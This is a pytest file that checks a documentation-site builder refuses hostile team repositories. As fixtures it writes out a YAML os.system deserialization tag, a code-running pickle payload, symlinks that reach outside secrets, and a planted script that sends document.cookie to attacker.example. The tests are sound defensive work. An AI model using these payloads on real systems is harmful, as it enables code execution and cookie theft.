"""What a team repository can do to a site build: run nothing, read nothing outside it, write nowhere else."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import git
import pytest

from tests.conftest import ROOT, copy_example
from tests.gitflow.conftest import commit, new_cycle
from tests.notes.conftest import add_note
from tests.site.sitehelpers import TODAY, site_text, sites_in


def build(run_cli, repo: Path, out: Path, *extra):
    return run_cli("build", "--repo", repo, "--out", out, "--only", "people/daan", "--today", TODAY, "--jobs", "1",
                   *extra)


def test_mkdocs_yml_cannot_run_code_or_read_the_environment(example_repo, tmp_path, run_cli, monkeypatch):
    marker = tmp_path / "pwned"
    config = example_repo / "mkdocs.yml"
    original = config.read_text()
    config.write_text(original + f'x-extra:\n  x: !!python/object/apply:os.system ["touch {marker}"]\n')
    result = build(run_cli, example_repo, tmp_path / "site")
    assert result.exit_code == 1 and not marker.exists()
    line = original.count("\n") + 2
    assert f"mkdocs.yml:{line}:6: YAML tag `tag:yaml.org,2002:python/object/apply:os.system`" in result.stderr
    monkeypatch.setenv("DEVTALKS_TEST_SECRET", "s3cr3t-token")
    config.write_text(original.replace("copyright: ", "copyright: !ENV DEVTALKS_TEST_SECRET\nx: "))
    result = build(run_cli, example_repo, tmp_path / "site")
    assert result.exit_code == 1 and "!ENV" in result.stderr and "s3cr3t" not in result.stderr
    assert not (tmp_path / "site" / "people").exists()


def test_mkdocs_yml_inherits_nothing_from_outside_the_repository(example_repo, tmp_path, run_cli):
    outside = tmp_path / "outside.yml"
    outside.write_text("copyright: OUTSIDE-THE-REPOSITORY\n")
    config = example_repo / "mkdocs.yml"
    config.write_text(f"INHERIT: {outside}\n" + config.read_text().replace("copyright:", "x-copyright:"))
    assert build(run_cli, example_repo, tmp_path / "site").exit_code == 0
    assert "OUTSIDE-THE-REPOSITORY" not in (tmp_path / "site" / "people" / "daan" / "index.html").read_text()
    config.unlink()
    config.symlink_to(outside)
    result = build(run_cli, example_repo, tmp_path / "site2")
    assert result.exit_code == 1 and "mkdocs.yml leads out of the repository" in result.stderr


@pytest.mark.parametrize("rebuild", [False, True], ids=["first-build", "rebuild-with-builder"])
@pytest.mark.parametrize("how", ["file", "folder", "custom_dir", "endless"])
def test_site_overrides_cannot_reach_outside_the_repository(how, rebuild, example_repo, tmp_path, run_cli):
    jobs = ("--jobs", "2") if rebuild else ()
    if rebuild:  # a builder process then works out the base fingerprint while the build reads the team
        assert build(run_cli, example_repo, tmp_path / "site", *jobs).exit_code == 0
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("OUTSIDE-SECRET")
    if how == "file":
        (example_repo / "site_overrides" / "assets" / "leak.txt").symlink_to(secret)
    elif how == "endless":
        (example_repo / "site_overrides" / "assets" / "zero.css").symlink_to("/dev/zero")
    elif how == "folder":
        (example_repo / "site_overrides" / "assets" / "leak").symlink_to(secret.parent)
    else:
        config = example_repo / "mkdocs.yml"
        config.write_text(config.read_text().replace("custom_dir: site_overrides", "custom_dir: ../outside"))
    result = build(run_cli, example_repo, tmp_path / "site", *jobs)
    assert result.exit_code == 1
    assert "leads out of the repository" in result.stderr and "replace the symbolic link" in result.stderr
    assert not any("OUTSIDE-SECRET" in p.read_text(errors="replace")
                   for p in tmp_path.joinpath("site").rglob("*") if p.is_file())


def test_a_symlinked_out_folder_or_build_state_is_refused(example_repo, tmp_path, run_cli):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (example_repo / "site").symlink_to(elsewhere)
    result = build(run_cli, example_repo, example_repo / "site")
    assert result.exit_code == 2 and "is a symbolic link out of the repository" in result.stderr
    assert list(elsewhere.iterdir()) == []
    (example_repo / "site").unlink()
    precious = tmp_path / "precious"
    (precious / "keep-me").mkdir(parents=True)
    (example_repo / "site" / ".devtalks").mkdir(parents=True)
    (example_repo / "site" / ".devtalks" / "tmp").symlink_to(precious)  # a build empties its tmp/ first
    result = build(run_cli, example_repo, example_repo / "site")
    assert result.exit_code == 1 and "tmp is a symbolic link" in result.stderr
    assert (precious / "keep-me").is_dir()


def test_a_planted_theme_file_in_the_asset_store_is_replaced(example_repo, tmp_path):
    out = tmp_path / "site"

    def build_in_a_new_process() -> None:
        subprocess.run([sys.executable, "-m", "devtalks.cli", "build", "--repo", str(example_repo), "--out", str(out),
                        "--only", "people/daan", "--today", TODAY, "--jobs", "1", "--force"], check=True,
                       capture_output=True)

    build_in_a_new_process()
    bundle = next((out / "people" / "daan" / "assets" / "javascripts").glob("bundle.*.min.js"))
    original = bundle.read_bytes()
    stored = next(p for p in (out / ".devtalks" / "assets").rglob("*.js") if p.stat().st_ino == bundle.stat().st_ino)
    stored.unlink()
    stored.write_text("fetch('https://attacker.example/' + document.cookie)")
    build_in_a_new_process()
    assert bundle.read_bytes() == original and stored.read_bytes() == original


@pytest.fixture
def git_team(team) -> Path:
    """The notes team (keys for sanne and daan) as a Git repository that ignores /site/."""
    (team.repo / ".gitignore").write_text("/site/\n")
    add_note(team.repo, "daan", "PRIVATE-NOTE-TEXT")
    commit(git.Repo.init(team.repo, initial_branch="main"), "The team", day="2026-03-01")
    return team


def test_decrypted_notes_are_never_built_into_a_work_tree_unless_ignored_and_allowed(git_team, tmp_path, run_cli):
    repo, key = git_team.repo, git_team.keys["sanne"].path

    def private_build(out: Path, *extra):
        return run_cli("build", "--repo", repo, "--out", out, "--only", "managers/sanne", "--identity", key,
                       "--today", TODAY, "--jobs", "1", *extra)

    tracked = private_build(repo / "public")
    assert tracked.exit_code == 2
    assert "is inside the Git work tree" in tracked.stderr and "Git does not ignore it" in tracked.stderr
    assert private_build(repo / "public", "--allow-out-in-repo").exit_code == 2
    ignored = private_build(repo / "site")
    assert ignored.exit_code == 2 and "or add --allow-out-in-repo" in ignored.stderr
    assert not (repo / "public").exists() and not (repo / "site").exists()
    allowed = private_build(repo / "site", "--allow-out-in-repo")
    assert allowed.exit_code == 0, allowed.stderr
    assert "PRIVATE-NOTE-TEXT" in site_text(repo / "site" / "managers" / "sanne")
    assert git.Repo(repo).git.status("--porcelain") == "", "nothing for `git add -A` to pick up"
    outside = private_build(tmp_path / "private")
    assert outside.exit_code == 0 and "PRIVATE-NOTE-TEXT" in site_text(tmp_path / "private" / "managers" / "sanne")


def test_the_org_site_uses_hrs_configuration_and_nothing_a_team_commits(tmp_path):
    marker = tmp_path / "pwned"
    team = copy_example(tmp_path / "work" / "alpha")
    (team / "mkdocs.yml").write_text(f'copyright: TEAM-COPYRIGHT\nextra:\n  x: !!python/object/apply:os.system '
                                     f'["touch {marker}"]\n')
    (team / "site_overrides" / "main.html").write_text(
        '{% extends "base.html" %}{% block announce %}TEAM-OVERRIDE{% endblock %}')
    (team / ".devtalks-cache").mkdir()
    (team / ".devtalks-cache" / "org-workspace.pickle").write_bytes(
        b"cos\nsystem\n(S'touch " + str(marker).encode() + b"'\ntR.")
    repo = git.Repo.init(team, initial_branch="main")
    repo.git.add("-f", ".")
    commit(repo, "A team with ideas", "sanne", "2026-03-01")
    hr = tmp_path / "hr"
    hr.mkdir()
    shutil.copytree(ROOT / "question_templates", hr / "question_templates")
    (hr / "cycles").mkdir()
    new_cycle(hr)
    shutil.copytree(ROOT / "site_overrides", hr / "site_overrides")
    (hr / "mkdocs.yml").write_text((ROOT / "mkdocs.yml").read_text().replace("copyright: ", "copyright: HR-OWN "))
    (hr / "org.yaml").write_text("name: Voorbeeld BV\nteams:\n  - repo: ../work/alpha\n", encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "devtalks.cli", "build", "--org", str(hr / "org.yaml"),
                             "--repo", str(hr), "--out", str(tmp_path / "site"), "--today", TODAY],
                            capture_output=True, text=True, env={**os.environ, "DEVTALKS_CACHE_DIR": str(tmp_path / "c")})
    assert result.returncode == 0, result.stderr
    page = (tmp_path / "site" / "hr" / "index.html").read_text()
    assert "HR-OWN" in page and "Vertrouwelijk" in page
    for site in sites_in(tmp_path / "site").values():
        pages = "".join(p.read_text() for p in site.rglob("*.html"))
        assert "TEAM-COPYRIGHT" not in pages and "TEAM-OVERRIDE" not in pages
    assert not marker.exists()
    assert [p.name for p in (tmp_path / "c").rglob("*.pickle")] == ["org-workspace.pickle"], "cloned, never read"
